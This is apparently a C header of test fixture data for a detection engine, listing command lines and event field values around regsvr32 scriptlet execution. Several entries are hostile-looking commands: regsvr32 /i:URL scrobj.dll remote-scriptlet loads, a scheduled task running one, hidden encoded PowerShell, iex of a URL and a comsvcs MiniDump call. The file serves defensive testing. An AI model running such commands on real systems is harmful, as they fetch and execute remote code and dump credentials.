/* What random events of tests/support/sieve_events.h are made of: command lines, and values of the
 * fields beside them. */
#pragma once

/* In nearly all of these something is odd: switches, variables. */
static const char *const odd_lines[] = {
	"regsvr32 /s /n /u /i:http://example.com/a.sct scrobj.dll",
	"regsvr32.exe /s /u /i:https://h/x scrobj",
	"C:\\Windows\\System32\\regsvr32.exe /s C:\\Users\\Public\\a.dll",
	"\"C:\\Windows\\System32\\regsvr32.exe\" -s -i:\\\\host\\share\\a.sct scrobj.dll",
	"cmd /c regsvr32 /s /n /i:http://example.com/x scrobj.dll",
	"cmd.exe /c set a=b&&%x% /s /i:http://h/a scro~123.dll",
	"powershell -c 'reg'+'svr32 /i:http://h/a scrobj.dll'",
	"a.exe /s /n /u /i:http://example.com/a.sct SCROBJ.DLL",
	"a.exe -s x.ocx",
	"regsvr32 %windir%\\system32\\scrobj.dll /i:ftp://h/x",
	"regsvr32 /s s~123456.dll /i:a:b",
	"a /u-/i:http://x/ b.dll -n",
	"reg add HKCU\\x /d scrobj.dll /s",
	"x /installer:http://h/y scrobj /u /s",
	"powershell -nop -w hidden -enc AAAA",
	"C:\\Users\\a\\AppData\\Local\\Temp\\is-ABC12.tmp\\setup.tmp /x",
	"schtasks /create /tn x /tr \"regsvr32 /i:http://h/a scrobj\"",
};

static const char *const plain_lines[] = {
	"rundll32 scrobj.dll,GenerateTypeLib",
	"rundll32 advpack.dll,LaunchINFSection a,b,c",
	"mshta javascript:a",
	"notepad a.txt",
	"start script:http://h/a",
	"x\tscript:http://h/a",
	"y>script:http://h/a",
	"Regsvr32 x.jpg",
	"regsvr32 scrobj.dll",
	"regsvr32 C:\\Users\\Public\\a.dll",
	"C:\\Windows\\System32\\regsvr32.exe",
	"cmd.exe regsvr32 C:\\Users\\Public\\a.dll http://h/a scrobj.dll",
	"a.exe scrobj.dll",
	"rundll32 advpack.dll,LaunchINFSection a.inf",
	"rundll32 C:\\Windows\\System32\\scrobj.dll,GenerateTypeLib a",
	"x.exe",
	"winword.exe a.doc",
	"rundll32 javascript:a",
	"mshta vbscript:a",
	"cmd.exe copy regsvr32.exe b.exe",
	"wmic process list",
	"powershell iex http://h/a",
	"rundll32 comsvcs.dll,MiniDump 1 2 3",
	"wscript C:\\Users\\a\\Downloads\\a.js",
	"regsvr32 \\\\h\\s\\a.dll",
	"certutil delete",
	"regsvr32 a.dll b.ocx",
	"odbcconf a.rsp",
	/* "regsvr32 a.dll", "regsvr32 scrobj.dll" */
	"cmd.exe powershell -enc cgBlAGcAcwB2AHIAMwAyACAAYQAuAGQAbABsAA==",
	"powershell.exe -encod cgBlAGcAcwB2AHIAMwAyACAAcwBjAHIAbwBiAGoALgBkAGwAbAA=",
	"pwsh -ec cgBlAGcAcwB2AHIAMwAyACAAYQAuAGQAbABsAA==",
};

static const char *const images[] = {
	"C:\\Windows\\System32\\regsvr32.exe",
	"C:\\Users\\a\\b.exe",
	"c:/windows/system32/REGSVR32.EXE",
	"\\Device\\HarddiskVolume2\\Windows\\System32\\cmd.exe",
	"%comspec%",
	"%SystemRoot%\\system32\\rundll32.exe",
	"C:\\Windows\\System32\\mshta.exe",
	"regsvr32",
	"C:\\Windows\\.\\System32\\regsvr32.exe. ",
	"",
	"C:\\Windows\\sysnative\\regsvr32.exe",
	"C:\\Windows\\explorer.exe",
};
static const char *const originals[] = {
	"REGSVR32.EXE",   "regsvr32.exe.mui", "-",       "", "CMD.EXE",
	" RUNDLL32.EXE ", "PowerShell.EXE",   "pwsh.dll"
};
static const char *const descriptions[] = { "Microsoft(C) Register Server", "x", "" };
static const char *const hashes[] = { "SHA1=1,IMPHASH=0235FF9A007804882636BCCCFB4D1A2F",
	                              "0235ff9a007804882636bcccfb4d1a2f", "x" };
static const char *const ids[] = { "4688",
	                           "1",
	                           "\"4688\"",
	                           "\"1\"",
	                           "4688.0",
	                           "4.688e3",
	                           "\"0x1250\"",
	                           "46880e-1",
	                           "0.1e1",
	                           "\" 1\"",
	                           "\"0x01\"",
	                           "[1]",
	                           "{\"#text\": 1}",
	                           "10e-1",
	                           "4688.00",
	                           "\"04688\"",
	                           "468.8E1",
	                           "13",
	                           "4104",
	                           "4103",
	                           "4657",
	                           "7",
	                           "0.99999999999999999999",
	                           "4687.99999999999999999",
	                           "[4688,1]",
	                           "{\"value\":4688}" };
static const char *const channels[] = { "Security", "Microsoft-Windows-Sysmon/Operational", "",
	                                "Linux-Sysmon/Operational",
	                                "Microsoft-Windows-PowerShell/Operational" };
static const char *const numbers[] = { "4720", "\"0x1270\"", "472e1",  "4719.9999999999999999",
	                               "1e3",  "1000",       "47.2e2", "\"4720.0000\"" };
